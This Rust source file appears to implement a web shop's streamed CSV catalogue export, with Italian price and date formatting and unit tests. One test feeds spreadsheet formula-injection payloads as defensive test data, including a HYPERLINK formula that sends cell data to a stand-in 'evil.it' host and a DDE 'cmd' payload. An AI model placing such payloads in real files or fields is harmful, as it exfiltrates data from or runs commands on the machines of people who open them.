//! `GET /api/products/export`: the shop's catalogue as the CSV of docs/product/entities.md ("CSV
//! export"), streamed in keyset batches so a shop of any size exports with flat memory
//! (docs/decisions/016-streamed-export.md).

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::header;
use axum::response::{IntoResponse, Response};
use domain::messages;
use domain::spreadsheet::spreadsheet_text;
use domain::Price;
use futures::stream::{self, StreamExt};
use sea_orm::DatabaseConnection;
use time::{Date, Duration, Month, OffsetDateTime};

use crate::auth::Owner;
use crate::error::{AppError, ErrorBody, Result};
use crate::services::exports::{self, ExportRow, Slot, BATCH};
use crate::AppState;

/// The number of products the export holds (as counted when it started): the dashboard
/// reads it from a `HEAD` before the download, for its "N prodotti esportati" toast.
pub const COUNT_HEADER: &str = "x-total-count";
/// What a second export of a shop waits, in seconds, before it is worth trying again.
const RETRY_AFTER_SECONDS: u64 = 10;
/// UTF-8 byte-order mark, so spreadsheet programs read accented letters correctly, then
/// the documented header line (docs/product/routes.md); `sku` and `ean` follow when the shop has codes.
const HEAD: &str = "\u{feff}name;price;description;brand;category;in_stock";
const CODES_HEAD: &str = ";sku;ean";

/// The shop's products, newest first, as a CSV file: semicolons, every cell quoted with
/// inner quotes doubled, newlines of the description turned into spaces, prices with a
/// decimal comma and two decimals as an Italian spreadsheet reads them (`1234,50`), a
/// missing price written 0, availability "si" or "no", and no cell starting a formula. A
/// shop whose products have codes gets them in two more columns, so the file imported
/// again updates the same products.
#[utoipa::path(get, path = "/api/products/export", tag = "products",
    security(("session" = [])),
    responses(
        (status = 200, description = "`prodotti_<shop slug>_<YYYY-MM-DD>.csv`, UTF-8 with a BOM: `name;price;description;brand;category;in_stock`, then `sku;ean` when the shop has codes",
            content_type = "text/csv", body = String,
            headers(
                ("Content-Disposition" = String, description = "attachment; filename=\"prodotti_<shop slug>_<YYYY-MM-DD>.csv\""),
                ("X-Total-Count" = u64, description = "The products in the file"))),
        (status = 404, description = "`not_found`: the shop has no products to export, or the user has no shop", body = ErrorBody),
        (status = 429, description = "`rate_limited`: an export of this shop is already running", body = ErrorBody)))]
pub async fn products(State(app): State<AppState>, owner: Owner) -> Result<Response> {
    let store_id = owner.store.id;
    let slot = app
        .exports
        .try_begin(store_id)
        .ok_or_else(|| AppError::TooManyRequests {
            message: messages::EXPORT_IN_PROGRESS.to_owned(),
            retry_after: RETRY_AFTER_SECONDS,
        })?;
    let count = exports::count(&app.db, store_id).await?;
    if count == 0 {
        return Err(AppError::not_found(messages::NOTHING_TO_EXPORT).into());
    }
    let codes = exports::has_codes(&app.db, store_id).await?;
    let name = file_name(
        owner.store.slug.as_str(),
        italian_date(OffsetDateTime::now_utc()),
    );
    let head = format!("{HEAD}{}\r\n", if codes { CODES_HEAD } else { "" });
    let body = stream::once(async { Ok(Bytes::from(head)) }).chain(rows(
        app.db.clone(),
        store_id,
        codes,
        slot,
    ));
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}\""),
            ),
            (header::CACHE_CONTROL, "no-store".to_owned()),
            (
                header::HeaderName::from_static(COUNT_HEADER),
                count.to_string(),
            ),
        ],
        Body::from_stream(body),
    )
        .into_response())
}

/// Where the next batch starts. It owns the shop's export slot: the slot is freed when
/// the body is dropped, at its end or when the client goes away.
struct Cursor {
    db: DatabaseConnection,
    store_id: i64,
    /// The `sku` and `ean` columns are written.
    codes: bool,
    before: Option<i64>,
    done: bool,
    _slot: Slot,
}

/// One chunk of CSV per batch, read only when the connection takes more: a slow client
/// holds no database connection and no more than one batch in memory. A failed read ends
/// the body with an error, so the connection is cut and the download is not taken for a
/// whole file.
fn rows(
    db: DatabaseConnection,
    store_id: i64,
    codes: bool,
    slot: Slot,
) -> impl futures::Stream<Item = Result<Bytes>> + Send + 'static {
    let cursor = Cursor {
        db,
        store_id,
        codes,
        before: None,
        done: false,
        _slot: slot,
    };
    stream::try_unfold(cursor, |mut cursor| async move {
        if cursor.done {
            return Ok(None);
        }
        let batch = exports::batch(&cursor.db, cursor.store_id, cursor.before, BATCH)
            .await
            .inspect_err(|err| {
                tracing::error!(
                    store_id = cursor.store_id,
                    "catalogue export cut short: {err:#}"
                );
            })?;
        cursor.done = (batch.len() as u64) < BATCH;
        let Some(last) = batch.last() else {
            return Ok(None);
        };
        cursor.before = Some(last.id);
        let chunk = csv_lines(&batch, cursor.codes).map_err(|e| AppError::Internal(e.into()))?;
        Ok(Some((Bytes::from(chunk), cursor)))
    })
}

/// The rows' CSV lines, CRLF-terminated; with `codes`, each ends with its SKU and EAN.
fn csv_lines(rows: &[ExportRow], codes: bool) -> std::result::Result<Vec<u8>, csv::Error> {
    let mut out = csv::WriterBuilder::new()
        .delimiter(b';')
        .quote_style(csv::QuoteStyle::Always)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(rows.len() * 256));
    for row in rows {
        let description = one_line(row.description.as_deref().unwrap_or_default());
        let price = price_text(row.price);
        let mut cells = vec![
            row.name.as_str(),
            price.as_str(),
            description.as_str(),
            row.brand.as_deref().unwrap_or_default(),
            row.category.as_deref().unwrap_or_default(),
            if row.in_stock { "si" } else { "no" },
        ];
        if codes {
            cells.push(row.sku.as_deref().unwrap_or_default());
            cells.push(row.ean.as_deref().unwrap_or_default());
        }
        let cells: Vec<_> = cells.into_iter().map(spreadsheet_text).collect();
        out.write_record(cells.iter().map(AsRef::<str>::as_ref))?;
    }
    out.into_inner().map_err(|e| e.into_error().into())
}

/// CRLF, CR and LF each become one space.
fn one_line(text: &str) -> String {
    text.replace("\r\n", " ").replace(['\r', '\n'], " ")
}

/// Euros with a decimal comma and two decimals, no thousands mark (`1234,50`, `0,05`): what
/// an Italian spreadsheet reads as a number in a `;` file. `0` without a price (as documented).
fn price_text(price: Option<Price>) -> String {
    match price.map(Price::cents) {
        None => "0".to_owned(),
        Some(cents) => format!("{},{:02}", cents / 100, cents % 100),
    }
}

/// `prodotti_<slug>_<YYYY-MM-DD>.csv` (docs/product/entities.md); the slug is the shop's own, ASCII.
fn file_name(store_slug: &str, date: Date) -> String {
    format!(
        "prodotti_{store_slug}_{}-{:02}-{:02}.csv",
        date.year(),
        u8::from(date.month()),
        date.day()
    )
}

/// The date in Italy: UTC+1, UTC+2 from the last Sunday of March to the last Sunday of
/// October (at 01:00 UTC, the European Union's rule), so an export made just after
/// midnight carries the owner's date.
fn italian_date(now: OffsetDateTime) -> Date {
    let year = now.year();
    let switch =
        |month| last_sunday(year, month).map(|d| d.midnight().assume_utc() + Duration::HOUR);
    let summer = match (switch(Month::March), switch(Month::October)) {
        (Some(start), Some(end)) => start <= now && now < end,
        _ => false,
    };
    let offset = if summer {
        Duration::hours(2)
    } else {
        Duration::HOUR
    };
    (now + offset).date()
}

fn last_sunday(year: i32, month: Month) -> Option<Date> {
    let last = Date::from_calendar_date(year, month, month.length(year)).ok()?;
    Some(last - Duration::days(i64::from(last.weekday().number_days_from_sunday())))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use time::macros::datetime;

    use super::*;

    fn row(id: i64, name: &str) -> ExportRow {
        ExportRow {
            id,
            name: name.to_owned(),
            price: Some(Price::from_cents(id * 100).unwrap()),
            description: None,
            brand: None,
            category: None,
            in_stock: true,
            sku: None,
            ean: None,
        }
    }

    fn text(rows: &[ExportRow]) -> String {
        String::from_utf8(csv_lines(rows, false).unwrap()).unwrap()
    }

    /// The documented columns, quoting and `si`/`no`; prices as an Italian spreadsheet reads them.
    #[test]
    fn the_spec_format() {
        let rows = [
            ExportRow {
                price: Some(Price::from_cents(1250).unwrap()),
                description: Some("Riga uno\nriga due\r\nriga tre".into()),
                brand: Some("Acme; Spa".into()),
                category: Some("Idraulica".into()),
                ..row(1, "Tubo 1/2\" zincato")
            },
            ExportRow {
                price: None,
                in_stock: false,
                ..row(2, "Sacco")
            },
        ];
        assert_eq!(
            text(&rows),
            "\"Tubo 1/2\"\" zincato\";\"12,50\";\"Riga uno riga due riga tre\";\"Acme; Spa\";\"Idraulica\";\"si\"\r\n\
             \"Sacco\";\"0\";\"\";\"\";\"\";\"no\"\r\n"
        );
        assert!(HEAD.starts_with('\u{feff}'));
        assert!(HEAD.ends_with("name;price;description;brand;category;in_stock"));
        let coded = ExportRow {
            sku: Some("=A1".into()),
            ean: Some("8001234567897".into()),
            ..row(3, "Chiave")
        };
        assert_eq!(
            String::from_utf8(csv_lines(&[coded, row(4, "Vite")], true).unwrap()).unwrap(),
            "\"Chiave\";\"3,00\";\"\";\"\";\"\";\"si\";\"'=A1\";\"8001234567897\"\r\n\
             \"Vite\";\"4,00\";\"\";\"\";\"\";\"si\";\"\";\"\"\r\n"
        );
    }

    #[test]
    fn no_cell_starts_a_formula() {
        let names = [
            "-20% sconto",
            "=HYPERLINK(\"http://evil.it/?\"&A1;\"Clicca\")",
            "+39 06 1234567",
            "@SUM(A1)",
            "\tTab",
            "\u{FF1D}1+1",
        ];
        let rows: Vec<ExportRow> = names
            .iter()
            .map(|n| ExportRow {
                brand: Some("=cmd|' /C calc'!A0".into()),
                description: Some("\r\n=1+1 dopo un a capo".into()),
                ..row(0, n)
            })
            .collect();
        let body = text(&rows);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(body.as_bytes());
        let read: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(read.len(), names.len());
        for (record, name) in read.iter().zip(names) {
            assert_eq!(&record[0], format!("'{name}"));
            assert_eq!(&record[1], "0,00");
            assert_eq!(
                &record[2], " =1+1 dopo un a capo",
                "a space first: not a formula"
            );
            assert_eq!(&record[3], "'=cmd|' /C calc'!A0");
        }
        assert!(text(&[row(1, "Cemento - 25 kg")]).starts_with("\"Cemento - 25 kg\";"));
    }

    #[test]
    fn prices_with_a_decimal_comma_and_two_decimals() {
        let cases = [
            (None, "0"),
            (Some(0), "0,00"),
            (Some(5), "0,05"),
            (Some(10), "0,10"),
            (Some(62), "0,62"),
            (Some(690), "6,90"),
            (Some(3000), "30,00"),
            (Some(123_450), "1234,50"),
            (Some(100_000_000), "1000000,00"),
        ];
        for (cents, expected) in cases {
            let price = cents.map(|c| Price::from_cents(c).unwrap());
            assert_eq!(price_text(price), expected, "{cents:?}");
        }
    }

    #[test]
    fn the_file_is_named_with_the_shop_and_the_italian_date() {
        let date = Date::from_calendar_date(2026, Month::November, 3).unwrap();
        assert_eq!(
            file_name("edilizia-demo", date),
            "prodotti_edilizia-demo_2026-11-03.csv"
        );
        let day = |t: OffsetDateTime| file_name("x", italian_date(t));
        // Winter: UTC+1.
        assert_eq!(
            day(datetime!(2026-01-31 22:59 UTC)),
            "prodotti_x_2026-01-31.csv"
        );
        assert_eq!(
            day(datetime!(2026-01-31 23:00 UTC)),
            "prodotti_x_2026-02-01.csv"
        );
        // Summer (29 March to 25 October 2026): UTC+2.
        assert_eq!(
            day(datetime!(2026-07-14 21:59 UTC)),
            "prodotti_x_2026-07-14.csv"
        );
        assert_eq!(
            day(datetime!(2026-07-14 22:00 UTC)),
            "prodotti_x_2026-07-15.csv"
        );
        assert_eq!(
            day(datetime!(2026-03-29 00:59 UTC)),
            "prodotti_x_2026-03-29.csv"
        );
        assert_eq!(
            italian_date(datetime!(2026-03-28 22:30 UTC)),
            Date::from_calendar_date(2026, Month::March, 28).unwrap(),
            "still winter: 23:30 in Italy"
        );
        assert_eq!(
            italian_date(datetime!(2026-10-24 22:30 UTC)),
            Date::from_calendar_date(2026, Month::October, 25).unwrap(),
            "still summer: 00:30 in Italy"
        );
        assert_eq!(
            italian_date(datetime!(2026-10-25 22:30 UTC)),
            Date::from_calendar_date(2026, Month::October, 25).unwrap(),
            "winter again: 23:30 in Italy"
        );
    }
}
